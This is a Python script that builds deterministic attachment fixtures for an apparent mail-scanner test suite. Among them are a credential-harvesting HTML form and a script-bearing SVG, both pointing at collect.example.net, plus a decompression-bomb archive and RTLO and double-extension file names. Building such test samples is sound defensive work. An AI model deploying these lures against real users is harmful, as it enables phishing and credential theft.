#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes the attachment fixtures (tests/data/mime/attach-*).

Every file is built from fixed bytes, fixed timestamps and a fixed
"random" ZipCrypto header, so running this again gives the same bytes;
the outputs are committed and tests/unit/test-attachment.c reads them.

  attach-pe.bin              a minimal PE32 executable (MZ + PE headers)
  attach-clean.pdf           a plain PDF
  attach-encrypted.pdf       a PDF whose trailer names /Encrypt
  attach-clean.png           a 1x1 PNG
  attach-clean.txt           text
  attach-page.html           an HTML page with a password form
  attach-image.svg           an SVG with a script
  attach-zip-exe.zip         readme.txt and setup.exe (the PE)
  attach-zip-encrypted.zip   one ZipCrypto-encrypted entry (password "infected")
  attach-zip-nested.zip      docs/readme.txt and inner.zip (with payload.exe)
  attach-zip-nested-big.zip  big.zip, a zip larger than 16 MiB, stored
  attach-zip-utf8.zip        one entry with a Cyrillic (UTF-8) name
  attach-zip-many.zip        25 small entries
  attach-bomb.tar.gz         a.txt, zeros.bin (32 MiB of zeros), after.txt
  attach-single.gz           one gzip-compressed text file
  attach-docm.docm           OOXML with word/vbaProject.bin
  attach-ole-vba.doc         OLE compound file: Macros/VBA/_VBA_PROJECT
  attach-ole-plain.doc       OLE compound file: WordDocument only
  attach-ole-encrypted.docx  OLE compound file: EncryptionInfo, EncryptedPackage
  attach-xlm.xls             OLE compound file: Workbook with a macro sheet
  attach-winmail.dat         TNEF with two files (Unicode and 8-bit names)
  attach-winmail-damaged.dat the same with one record's checksum broken
  attach-tnef-expected.txt   name, size and hashes of the files in the TNEF
  attach-zip-exe.eml         a message with attach-zip-exe.zip
  attach-names.eml           double extension and RTLO file names
  attach-tnef.eml            a message with attach-winmail.dat
"""

import base64
import gzip
import hashlib
import io
import os
import struct
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
DATE = (2024, 3, 5, 10, 20, 30)


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- files

def pe_bytes():
    """A PE32 console program for i386: DOS header, PE signature, COFF
    header, optional header and one section header."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0x65E6F000, 0, 0,
                                   0xE0, 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<H", opt, 0, 0x10B)    # PE32
    struct.pack_into("<H", opt, 68, 3)       # console subsystem
    section = b".text\0\0\0" + bytes(32)
    return bytes(dos) + coff + bytes(opt) + section + bytes(512)


def pdf_bytes(encrypted):
    body = (b"%PDF-1.4\n"
            b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
    if encrypted:
        body += (b"5 0 obj\n<< /Filter /Standard /V 2 /R 3 /Length 128 "
                 b"/P -3904 /O <00> /U <00> >>\nendobj\n")
        trailer = (b"trailer\n<< /Size 6 /Root 1 0 R /Encrypt 5 0 R "
                   b"/ID [<01> <01>] >>\n")
    else:
        trailer = b"trailer\n<< /Size 3 /Root 1 0 R >>\n"
    return body + b"xref\n0 1\n0000000000 65535 f \n" + trailer + \
        b"startxref\n0\n%%EOF\n"


def png_bytes():
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0\xff\x00\x00", 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) +
            chunk(b"IDAT", idat) + chunk(b"IEND", b""))


HTML = (b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n"
        b"<body><h1>Your mailbox is full</h1>\n"
        b"<form action=\"https://collect.example.net/p\" method=\"post\">\n"
        b"<input name=\"email\"><input type=\"password\" name=\"pw\">\n"
        b"<button>Sign in</button></form></body></html>\n")

SVG = (b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
       b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" "
       b"height=\"10\">\n<rect width=\"10\" height=\"10\"/>\n"
       b"<script>location.href='https://collect.example.net/'</script>\n"
       b"</svg>\n")

TEXT = b"Minutes of the meeting.\nNext meeting on Tuesday.\n"


# ----------------------------------------------------------------- zips

def zip_bytes(entries, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, DATE)
            info.compress_type = method
            info.create_system = 0
            info.external_attr = 0x20
            z.writestr(info, data)
    return buf.getvalue()


def crc_update(crc, byte):
    return ~zlib.crc32(bytes([byte]), ~crc & 0xFFFFFFFF) & 0xFFFFFFFF


class ZipCrypto:
    """PKWARE traditional encryption (APPNOTE 6.1)."""

    def __init__(self, password):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for c in password:
            self.update(c)

    def update(self, c):
        k = self.k
        k[0] = crc_update(k[0], c)
        k[1] = (k[1] + (k[0] & 0xFF)) & 0xFFFFFFFF
        k[1] = (k[1] * 134775813 + 1) & 0xFFFFFFFF
        k[2] = crc_update(k[2], k[1] >> 24)

    def encrypt(self, data):
        out = bytearray()
        for c in data:
            t = (self.k[2] | 2) & 0xFFFF
            out.append(c ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self.update(c)
        return bytes(out)


def encrypted_zip(name, data, password):
    """One deflated entry encrypted with ZipCrypto; the 12-byte header is
    fixed, not random, so the file is reproducible."""
    crc = zlib.crc32(data) & 0xFFFFFFFF
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = comp.compress(data) + comp.flush()
    header = bytes(range(1, 12)) + bytes([crc >> 24])
    payload = ZipCrypto(password).encrypt(header + deflated)
    dostime = (DATE[3] << 11) | (DATE[4] << 5) | (DATE[5] // 2)
    dosdate = ((DATE[0] - 1980) << 9) | (DATE[1] << 5) | DATE[2]
    fname = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, dostime,
                        dosdate, crc, len(payload), len(data), len(fname),
                        0) + fname
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 8,
                          dostime, dosdate, crc, len(payload), len(data),
                          len(fname), 0, 0, 0, 0, 0x20, 0) + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central),
                      len(local) + len(payload), 0)
    out = local + payload + central + end
    # The writer is checked against Python's reader.
    with zipfile.ZipFile(io.BytesIO(out)) as z:
        assert z.read(name, pwd=password) == data
    return out


# ------------------------------------------------------------ tar, gzip

def tar_gz(entries):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1709634030
            info.mode = 0o644
            t.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), 9, mtime=0)


# ------------------------------------------------------ compound files

FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def cfb_bytes(entries):
    """An OLE compound file, version 3 (512-byte sectors), one FAT sector,
    no mini stream: every stream is padded to at least 4096 bytes.
    entries: (name, type, parent index or None, data); type 1 storage,
    2 stream; index 0 is the root entry, made here."""
    nodes = [{"name": "Root Entry", "type": 5, "data": b"", "kids": []}]
    for name, kind, parent, data in entries:
        nodes.append({"name": name, "type": kind, "data": data or b"",
                      "kids": []})
        nodes[parent if parent is not None else 0]["kids"].append(
            len(nodes) - 1)
    # Directory sectors come first, then the streams.
    dir_sectors = (len(nodes) + 3) // 4
    next_sector = 1 + dir_sectors
    fat = [FATSECT] + [0] * dir_sectors
    for i in range(dir_sectors):
        fat[1 + i] = 2 + i if i + 1 < dir_sectors else END
    stream_data = b""
    for n in nodes:
        if n["type"] != 2:
            n["start"], n["size"] = END, 0
            continue
        data = n["data"].ljust(max(4096, len(n["data"])), b"\0")
        data = data.ljust((len(data) + 511) // 512 * 512, b"\0")
        count = len(data) // 512
        n["start"], n["size"] = next_sector, len(n["data"].ljust(4096, b"\0"))
        for k in range(count):
            fat.append(next_sector + 1 if k + 1 < count else END)
            next_sector += 1
        stream_data += data
    assert len(fat) <= 128
    fat += [FREE] * (128 - len(fat))
    # Siblings are chained through "right" (a degenerate but valid tree:
    # every node black, readers walk it either way).
    right = {}
    for n in nodes:
        kids = n["kids"]
        n["child"] = kids[0] if kids else FREE
        for a, b in zip(kids, kids[1:]):
            right[a] = b
    directory = b""
    for i, n in enumerate(nodes):
        name = n["name"].encode("utf-16-le") + b"\0\0"
        entry = name.ljust(64, b"\0")
        entry += struct.pack("<HBB", len(name), n["type"], 1)
        entry += struct.pack("<III", FREE, right.get(i, FREE), n["child"])
        entry += bytes(16) + struct.pack("<I", 0) + bytes(16)
        entry += struct.pack("<IQ", n["start"], n["size"])
        assert len(entry) == 128
        directory += entry
    directory = directory.ljust(dir_sectors * 512, b"\0")
    header = bytearray(512)
    header[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 0x28, 0, 1, 1, 0, 4096, END, 0,
                     END, 0)
    struct.pack_into("<I", header, 0x4C, 0)
    for i in range(1, 109):
        struct.pack_into("<I", header, 0x4C + 4 * i, FREE)
    return (bytes(header) + struct.pack("<128I", *fat) + directory +
            stream_data)


def word_stream(encrypted=False):
    fib = bytearray(4096)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)
    struct.pack_into("<H", fib, 0x0A, 0x0100 if encrypted else 0)
    return bytes(fib)


def biff_record(kind, data):
    return struct.pack("<HH", kind, len(data)) + data


def workbook_stream():
    bof = biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB,
                                          0x07CC, 0, 0x06))
    sheet = biff_record(0x0085, struct.pack("<IBBBB", 0, 0, 0, 6, 0) +
                        b"Sheet1")
    macro = biff_record(0x0085, struct.pack("<IBBBB", 0, 0, 1, 6, 0) +
                        b"Macro1")
    eof = biff_record(0x000A, b"")
    return bof + sheet + macro + eof


# ----------------------------------------------------------------- TNEF

def tnef_attr(level, ident, data, break_checksum=False):
    checksum = (sum(data) + (1 if break_checksum else 0)) & 0xFFFF
    return (bytes([level]) + struct.pack("<II", ident, len(data)) + data +
            struct.pack("<H", checksum))


def mapi_string(tag_type, prop_id, value):
    """One variable-length MAPI property: tag, count 1, size, padded."""
    size = len(value)
    return (struct.pack("<III", (prop_id << 16) | tag_type, 1, size) +
            value + b"\0" * ((4 - size % 4) % 4))


def tnef_bytes(files, damaged=False):
    out = struct.pack("<IH", 0x223E9F78, 0x1D2C)
    out += tnef_attr(1, 0x00089006, struct.pack("<I", 0x00010000))
    out += tnef_attr(1, 0x00069007, struct.pack("<II", 1252, 0))
    out += tnef_attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")
    for i, (short, long_name, unicode, data) in enumerate(files):
        out += tnef_attr(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF,
                                                    0, 0, 0))
        out += tnef_attr(2, 0x00018010, short.encode("cp1252") + b"\0")
        out += tnef_attr(2, 0x0006800F, data,
                         break_checksum=damaged and i == 0)
        if unicode:
            name = mapi_string(0x001F, 0x3707,
                               long_name.encode("utf-16-le") + b"\0\0")
        else:
            name = mapi_string(0x001E, 0x3707,
                               long_name.encode("cp1252") + b"\0")
        method = struct.pack("<II", (0x3705 << 16) | 0x0003, 1)
        out += tnef_attr(2, 0x00069005, struct.pack("<I", 2) + name + method)
    return out


# ------------------------------------------------------------- messages

def eml(subject, message_id, parts):
    boundary = "=_attach_fixture_boundary"
    lines = [
        "From: Accounts <accounts@billing.example.com>",
        "To: Dana Reader <dana@example.org>",
        "Subject: " + subject,
        "Date: Tue, 05 Mar 2024 10:20:30 +0000",
        "Message-ID: <" + message_id + ">",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"",
        "",
        "--" + boundary,
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "Please see the attached file.",
        "",
    ]
    for headers, data in parts:
        lines.append("--" + boundary)
        lines.extend(headers)
        lines.append("Content-Transfer-Encoding: base64")
        lines.append("")
        b64 = base64.b64encode(data).decode()
        lines.extend(b64[i:i + 76] for i in range(0, len(b64), 76))
        lines.append("")
    lines.append("--" + boundary + "--")
    lines.append("")
    return "\r\n".join(lines).encode()


def hashes(data):
    return (hashlib.md5(data).hexdigest(), hashlib.sha1(data).hexdigest(),
            hashlib.sha256(data).hexdigest())


def main():
    pe = pe_bytes()
    write("attach-pe.bin", pe)
    write("attach-clean.pdf", pdf_bytes(False))
    write("attach-encrypted.pdf", pdf_bytes(True))
    png = png_bytes()
    write("attach-clean.png", png)
    write("attach-clean.txt", TEXT)
    write("attach-page.html", HTML)
    write("attach-image.svg", SVG)

    zip_exe = zip_bytes([("readme.txt", b"Run setup to install.\n"),
                         ("setup.exe", pe)])
    write("attach-zip-exe.zip", zip_exe)
    write("attach-zip-encrypted.zip",
          encrypted_zip("invoice.doc", TEXT * 20, b"infected"))
    inner = zip_bytes([("payload.exe", pe)])
    write("attach-zip-nested.zip",
          zip_bytes([("docs/readme.txt", TEXT), ("inner.zip", inner)]))
    big = zip_bytes([("zeros.bin", bytes(17 * 1024 * 1024))],
                    method=zipfile.ZIP_STORED)
    write("attach-zip-nested-big.zip", zip_bytes([("big.zip", big)]))
    # Python sets the UTF-8 name flag (APPNOTE 4.4.4 bit 11) for these.
    write("attach-zip-utf8.zip",
          zip_bytes([("\u043e\u0442\u0447\u0451\u0442.txt", TEXT)]))
    write("attach-zip-many.zip",
          zip_bytes([("file%02d.txt" % i, b"entry %d\n" % i)
                     for i in range(25)]))
    write("attach-bomb.tar.gz",
          tar_gz([("a.txt", TEXT), ("zeros.bin", bytes(32 * 1024 * 1024)),
                  ("after.txt", TEXT)]))
    write("attach-single.gz", gzip.compress(TEXT * 10, 9, mtime=0))

    write("attach-docm.docm", zip_bytes([
        ("[Content_Types].xml",
         b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas."
         b"openxmlformats.org/package/2006/content-types\"/>"),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", cfb_bytes([("VBA", 1, None, None)])),
    ]))
    write("attach-ole-vba.doc", cfb_bytes([
        ("WordDocument", 2, None, word_stream()),
        ("Macros", 1, None, None),
        ("VBA", 1, 2, None),
        ("_VBA_PROJECT", 2, 3, b"\xcc\x61" + bytes(100)),
    ]))
    write("attach-ole-plain.doc", cfb_bytes([
        ("WordDocument", 2, None, word_stream()),
    ]))
    write("attach-ole-encrypted.docx", cfb_bytes([
        ("EncryptionInfo", 2, None, struct.pack("<HHI", 4, 4, 0x40)),
        ("EncryptedPackage", 2, None, struct.pack("<Q", 1000) + bytes(1000)),
    ]))
    write("attach-xlm.xls", cfb_bytes([
        ("Workbook", 2, None, workbook_stream()),
    ]))

    tnef_files = [
        ("QUARTE~1.TXT", "quarterly-report.txt", True,
         b"Quarterly report\nRevenue up.\n"),
        ("DIAGRAM.PNG", "diagram.png", False, png),
    ]
    winmail = tnef_bytes(tnef_files)
    write("attach-winmail.dat", winmail)
    write("attach-winmail-damaged.dat", tnef_bytes(tnef_files, damaged=True))
    with open(os.path.join(HERE, "attach-tnef-expected.txt"), "w") as f:
        f.write("# part\tname\tsize\tmd5\tsha1\tsha256 (make-attach-"
                "fixtures.py)\n")
        for i, (_, long_name, _, data) in enumerate(tnef_files):
            f.write("\t".join(("P:tnef%d" % (i + 1), long_name,
                               str(len(data))) + hashes(data)) + "\n")

    write("attach-zip-exe.eml", eml(
        "Your invoice", "zip-exe.1@billing.example.com",
        [(["Content-Type: application/zip; name=\"invoice.zip\"",
           "Content-Disposition: attachment; filename=\"invoice.zip\""],
          zip_exe)]))
    write("attach-names.eml", eml(
        "Documents", "names.1@billing.example.com",
        [(["Content-Type: application/pdf; name=\"invoice.pdf.exe\"",
           "Content-Disposition: attachment; filename=\"invoice.pdf.exe\""],
          pe),
         (["Content-Type: image/png",
           "Content-Disposition: attachment;",
           " filename*=UTF-8''photo%E2%80%AEgnp.exe"],
          pe)]))
    write("attach-tnef.eml", eml(
        "Meeting notes", "tnef.1@billing.example.com",
        [(["Content-Type: application/ms-tnef; name=\"winmail.dat\"",
           "Content-Disposition: attachment; filename=\"winmail.dat\""],
          winmail)]))


if __name__ == "__main__":
    main()
